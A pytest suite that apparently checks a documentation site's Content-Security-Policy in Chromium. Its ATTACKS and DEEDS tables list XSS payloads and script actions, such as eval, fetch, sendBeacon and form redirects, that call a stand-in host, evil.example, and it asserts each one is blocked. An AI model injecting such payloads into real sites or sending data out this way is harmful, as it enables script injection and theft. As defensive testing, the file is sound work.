"""The pages' Content-Security-Policy, and what they keep: broken into in Chromium, and counted."""

import re

import pytest
from browsing import DESKTOP, ORIGIN, Visit
from playwright.sync_api import expect

from press.material import policy

META = re.compile(
    r'<meta charset="utf-8">\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">'
)
EVIL = "https://evil.example"
ATTACKS = {  # what somebody smuggles into a page: the directive that stops it
    "<script>hits.push('inline')</script>": "script-src-elem",
    "<img src='data:,' onerror='hits.push(this)'>": "script-src-attr",
    f"<script src='{EVIL}/script'></script>": "script-src-elem",
    f"<script type=module>import '{EVIL}/module'</script>": "script-src-elem",
    f"<img src='{EVIL}/image'>": "img-src",
    f"<video src='{EVIL}/video'></video>": "media-src",
    "<style>body { display: none }</style>": "style-src-elem",
    f"<link rel=stylesheet href='{EVIL}/style'>": "style-src-elem",
    f"<p style='background: url({EVIL}/background)'>x": "img-src",
    f"<iframe src='{EVIL}/frame'></iframe>": "frame-src",
    f"<object data='{EVIL}/object'></object>": "object-src",
    f"<base href='{EVIL}/base/'>": "base-uri",
}
DEEDS = {  # what a script that got in would try: the directive that stops it
    "eval('hits.push(1)')": "script-src",
    "new Function('hits.push(1)')()": "script-src",
    "setTimeout('hits.push(1)')": "script-src",
    f"fetch('{EVIL}/fetch')": "connect-src",
    f"navigator.sendBeacon('{EVIL}/beacon')": "connect-src",
    f"new WebSocket('{EVIL.replace('http', 'ws')}/socket')": "connect-src",
    f"new EventSource('{EVIL}/events')": "connect-src",
    "new Worker(URL.createObjectURL(new Blob(['1'])))": "worker-src",
    f"import('{EVIL}/import')": "script-src-elem",
    f"new FontFace('a', 'url({EVIL}/font)').load()": "font-src",
    f"form = document.forms[0]; form.action = '{EVIL}/form'; form.submit()": "form-action",
    "location = 'javascript:hits.push(1)'": "script-src-elem",
}
LISTEN = """
  window.hits = []
  window.violations = []
  addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective))
"""


def test_every_page_has_one_policy_and_it_comes_first(site):
    pages = list(site.rglob("*.html"))
    found = {META.search(page.read_text(encoding="utf-8")[:5000]) for page in pages}
    assert len(pages) > 20
    assert None not in found
    (text,) = {match[1] for match in found}
    scripts = re.search("script-src ([^;]*)", text)[1]
    assert "unsafe" not in scripts
    assert not re.search(r"unsafe-eval|//|\*|https?:", text)


def test_inline_scripts_are_allowed_by_their_hash_alone():
    text = policy.policy(
        [
            "<script>a()</script><script src='x.js'></script><style>b{}</style>",
            '<script id="c" type="application/json">{}</script><script>a()</script>',
        ]
    )
    a, b = (  # echo -n "a()" | openssl dgst -sha256 -binary | base64
        "qVpDBgj7bpq5hMAcGp3AOc79J3Y1Z4HvySTwKrWDoy4=",
        "7yqHVAesot11p6HczDsgKRipvI5UPgs97z80zNXlans=",
    )
    assert f"; script-src 'self' 'sha256-{a}'; style-src-elem 'self' 'sha256-{b}'; " in text


@pytest.mark.parametrize(
    ("language", "serving", "offline", "wanted"),
    [
        ("ko", False, False, True),
        ("en", False, False, False),  # the Korean build writes it, when both are there
        ("ko", True, False, False),
        ("ko", False, True, False),
    ],
)
def test_mkdocs_serve_may_add_its_script(language, serving, offline, wanted):
    assert policy.is_due(language, serving=serving, offline=offline) is wanted


@pytest.fixture(scope="module")
def attacked(site, browser):
    """An open page of the site, with all of ATTACKS in it."""
    reached = []

    def smuggle(route):
        html = (site / "about" / "index.html").read_text(encoding="utf-8")
        attacked = html.replace("</article>", "".join(ATTACKS) + "</article>")
        route.fulfill(body=attacked, content_type="text/html")

    def resist(route):
        reached.append(route.request.url)
        route.abort()

    with browser.new_context(viewport=DESKTOP) as context:
        context.add_init_script(LISTEN)
        context.route(ORIGIN + "about/", smuggle)
        context.route(EVIL + "/**", resist)
        page = context.new_page()
        page.goto(ORIGIN + "about/", wait_until="networkidle")
        yield page
    assert reached == []


@pytest.mark.browser
def test_nothing_smuggled_into_a_page_runs_or_loads(attacked):
    assert attacked.evaluate("hits") == []
    assert sorted(attacked.evaluate("violations")) == sorted(ATTACKS.values())


@pytest.mark.browser
@pytest.mark.parametrize("deed", DEEDS)
def test_a_script_that_got_in_gets_nowhere(attacked, deed):
    attacked.evaluate("violations.length = 0")
    attacked.route("**/deed.js", lambda route: route.fulfill(body=deed))
    attacked.evaluate("document.body.append(document.createElement('script'))")
    attacked.evaluate("document.body.lastChild.src = '/deed.js'")
    attacked.wait_for_function("() => violations.length")
    assert attacked.evaluate("violations") == [DEEDS[deed]]
    assert attacked.evaluate("hits") == []


@pytest.mark.browser
def test_a_visit_leaves_no_trace_but_the_readers_choices(browser):
    with browser.new_context(viewport=DESKTOP) as context:
        visit = Visit(context.new_page()).open("").open("gradient/")
        stored = "[...Object.keys(localStorage), ...Object.keys(sessionStorage)]"
        assert visit.page.evaluate(stored) == []
        visit.page.click("form[data-md-component=palette] label:visible")
        visit.page.keyboard.press("/")
        visit.page.keyboard.type("softmax")
        expect(visit.page.locator(".md-search-result__item").first).to_be_visible()
        visit.page.keyboard.press("Escape")
        visit.page.click("a.language")
        visit.page.wait_for_url(ORIGIN + "en/gradient/")
        assert sorted(visit.page.evaluate(stored)) == ["/.__palette", "mlcheats.language"]
        assert visit.page.evaluate("indexedDB.databases()") == []
        assert visit.page.evaluate("navigator.serviceWorker.getRegistrations()") == []
        assert context.cookies() == []
        assert visit.faults == []
